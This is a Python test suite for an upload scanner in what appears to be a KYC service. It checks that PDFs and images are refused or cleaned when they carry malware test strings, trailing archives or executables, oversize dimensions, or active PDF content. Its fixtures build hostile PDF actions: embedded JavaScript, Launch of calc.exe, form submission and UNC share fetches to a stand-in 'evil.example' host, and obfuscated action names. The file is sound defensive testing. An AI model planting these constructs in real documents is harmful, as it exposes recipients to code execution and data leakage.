"""What a file from outside is, what is refused of it and why, and what is left of a clean one."""

import io
import random

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name
from PIL import ExifTags, Image

from chalicelib.kyc import pdfs
from chalicelib.kyc.errors import Unsafe
from chalicelib.kyc.model import MAXIMUM_BYTES, MAXIMUM_PIXELS
from chalicelib.kyc.scanning import scan
from tests.support.pdfs import action, annotated, attached, opening, opening_apart, pdf
from tests.support.pictures import drawn, jpeg, png, png_chunk, seen, webp

ZIP = b"PK\x05\x06" + bytes(18)
SCRIPT = "app.alert(1)"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
EXE = b"MZ\x90\x00" + bytes(200)


def reason(content: bytes) -> str:
    with pytest.raises(Unsafe) as found:
        scan(content)
    return found.value.reason


def huge(side: int) -> bytes:
    """A PNG that says it has so many pixels a side."""
    from tests.support.pictures import PNG_SIGNATURE, png_header

    return PNG_SIGNATURE + png_header(side, side) + png_chunk(b"IDAT", b"") + png_chunk(b"IEND", b"")


class TestAnyFile:
    def test_that_is_none_of_the_three_is_refused_whatever_it_is_called(self):
        for content in (EXE, webp(2, 2), ZIP, b"<html>", b"GIF89a", b"\0" * 10):
            assert reason(content) == "unsupported_type"

    def test_that_holds_the_test_string_of_virus_scanners_is_refused(self):
        for content in (
            EICAR,
            jpeg(2, 2, comment=EICAR),
            pdf() + EICAR,
            png(2, 2, extra=png_chunk(b"tEXt", b"Comment\0" + EICAR)),
        ):
            assert reason(content) == "malware"

    def test_that_is_too_large_is_refused_before_anything_is_read(self):
        assert reason(png(2, 2, padding_bytes=MAXIMUM_BYTES)) == "too_large"

    @pytest.mark.parametrize("whole", [pdf(), jpeg(40, 30), png(40, 30)], ids=["pdf", "jpeg", "png"])
    def test_that_is_damaged_is_refused_or_written_anew_but_never_a_fault(self, whole):
        chance = random.Random(7)
        for _ in range(150):
            spoiled = bytearray(whole)
            for _ in range(chance.randrange(1, 9)):
                spoiled[chance.randrange(8, len(spoiled))] = chance.randrange(256)
            content = bytes(spoiled[: chance.randrange(len(spoiled) // 2, len(spoiled) + 1)])
            try:
                assert scan(content).content
            except Unsafe:
                pass


class TestPictures:
    @pytest.mark.parametrize(("content", "kind"), [(png(3, 2), "image/png"), (jpeg(3, 2), "image/jpeg")], ids=["png", "jpeg"])
    def test_keep_their_kind_and_size(self, content, kind):
        found = scan(content)
        assert (found.content_type, seen(found.content).size) == (kind, (3, 2))

    def test_keep_every_pixel_that_makes_a_document_readable(self):
        assert seen(scan(png(3_000, 2_000)).content).size == (3_000, 2_000)

    def test_lose_what_tells_of_where_they_were_taken(self):
        exif = Image.Exif()
        exif[ExifTags.Base.Make] = "ACME Camera"
        found = scan(drawn(Image.new("RGB", (8, 8)), "JPEG", exif=exif, comment=b"secret"))
        assert b"ACME" not in found.content and b"secret" not in found.content

    @pytest.mark.parametrize(
        "content", [png(2, 2), jpeg(2, 2), jpeg(64, 64, progressive=True)], ids=["png", "jpeg", "progressive"]
    )
    def test_with_something_behind_them_are_refused(self, content):
        assert reason(content + ZIP) == "trailing_data"
        assert reason(content + EXE) == "trailing_data"

    def test_of_a_camera_may_have_a_second_one_behind_which_is_left_out(self):
        first, second = jpeg(8, 8), jpeg(64, 64)
        assert seen(scan(first + second).content).size == (8, 8)
        assert second not in scan(first + second).content

    def test_with_restarts_and_stuffed_bytes_end_where_they_end(self):
        noisy = drawn(Image.effect_noise((200, 200), 90).convert("RGB"), "JPEG", quality=95)
        assert b"\xff\x00" in noisy
        assert scan(noisy).content
        assert reason(noisy + ZIP) == "trailing_data"

    def test_with_too_many_pixels_are_refused_before_they_are_decoded(self):
        side = int(MAXIMUM_PIXELS**0.5) + 1
        assert reason(huge(50_000)) == "too_many_pixels"
        assert reason(huge(side)) == "too_many_pixels"

    def test_that_end_too_early_are_refused(self):
        assert reason(png(40, 40)[:-30]) == "damaged"
        assert reason(drawn(Image.effect_noise((90, 90), 90).convert("RGB"), "JPEG")[:-400]) == "damaged"


class TestPdfs:
    def test_keep_their_pages(self):
        found = scan(pdf(pages=3))
        assert found.content_type == "application/pdf"
        assert len(pikepdf.open(io.BytesIO(found.content)).pages) == 3

    def test_lose_what_tells_of_their_maker(self):
        content = pdf(compress_streams=False)
        assert content.count(b"Secretive") == 2
        assert b"Secretive" not in scan(content).content
        written = pikepdf.open(io.BytesIO(scan(content).content))  # in which objects are compressed
        assert "/Metadata" not in written.Root and "/Info" not in written.trailer

    def test_are_written_alike_each_time(self):
        content = pdf()
        assert scan(content).content == scan(content).content

    @pytest.mark.parametrize(
        "change",
        [
            opening(action("JavaScript", JS=SCRIPT)),
            opening_apart(action("JavaScript", JS=SCRIPT)),
            opening(action("GoTo", D=Array([]), Next=action("Launch", F="calc.exe"))),
            annotated(A=action("Launch", F="calc.exe")),
            annotated(A=action("SubmitForm", F="https://evil.example")),
            annotated(A=action("ImportData", F="x")),
            annotated(A=action("GoToR", F="\\\\evil.example\\share")),
            annotated(AA=Dictionary(E=action("URI", URI="https://evil.example"))),
            annotated(Subtype=Name.RichMedia),
            annotated(Subtype=Name.FileAttachment),
            attached,
            lambda made: made.Root.__setitem__("/AcroForm", Dictionary(XFA="<xdp/>", Fields=Array([]))),
            lambda made: made.Root.__setitem__(
                "/AcroForm", made.make_indirect(Dictionary(Fields=Array([Dictionary(AA=Dictionary())])))
            ),
            lambda made: made.Root.__setitem__("/Names", Dictionary(JavaScript=Dictionary(Names=Array([])))),
        ],
    )
    def test_that_act_are_refused(self, change):
        assert reason(pdf(change)) == "active_content"

    def test_that_spell_an_action_otherwise_are_refused(self):
        content = pdf(opening(action("JavaScript", JS=SCRIPT)), object_stream_mode=pikepdf.ObjectStreamMode.disable)
        assert reason(content.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS ", b"/#4aS ")) == "active_content"

    def test_that_only_say_where_to_look_first_are_taken_and_look_nowhere(self):
        found = scan(pdf(lambda made: made.Root.__setitem__("/OpenAction", Array([made.pages[0].obj, Name.Fit]))))
        assert "/OpenAction" not in pikepdf.open(io.BytesIO(found.content)).Root

    def test_lead_nowhere_once_they_are_clean(self):
        content = pdf(annotated(A=action("URI", URI="https://evil.example")))
        assert b"evil.example" not in scan(content).content

    @pytest.mark.parametrize("behind", [ZIP, EXE, b"%PDF-1.7"], ids=["zip", "exe", "pdf"])
    def test_with_something_behind_them_are_refused(self, behind):
        assert reason(pdf() + behind) == "trailing_data"

    def test_with_something_behind_them_that_says_it_is_the_end_lose_it(self):
        assert b"PK" not in scan(pdf() + ZIP + b"\n%%EOF\n").content

    def test_that_are_locked_are_refused(self):
        assert reason(pdf(encryption=pikepdf.Encryption(owner="a", user="b"))) == "encrypted"

    @pytest.mark.parametrize("content", [b"%PDF-1.4 nothing", b"%PDF-1.4\n%%EOF", pdf(pages=0)], ids=["nothing", "end", "pages"])
    def test_that_are_none_are_refused(self, content):
        assert reason(content) == "damaged"

    def test_with_too_much_in_them_are_refused(self, monkeypatch):
        assert reason(pdf(pages=pdfs.MAXIMUM_PAGES + 1)) == "too_complex"
        monkeypatch.setattr(pdfs, "MAXIMUM_OBJECTS", 2)
        assert reason(pdf()) == "too_complex"
        monkeypatch.undo()
        monkeypatch.setattr(pdfs, "MAXIMUM_PARTS", 5)
        assert reason(pdf()) == "too_complex"
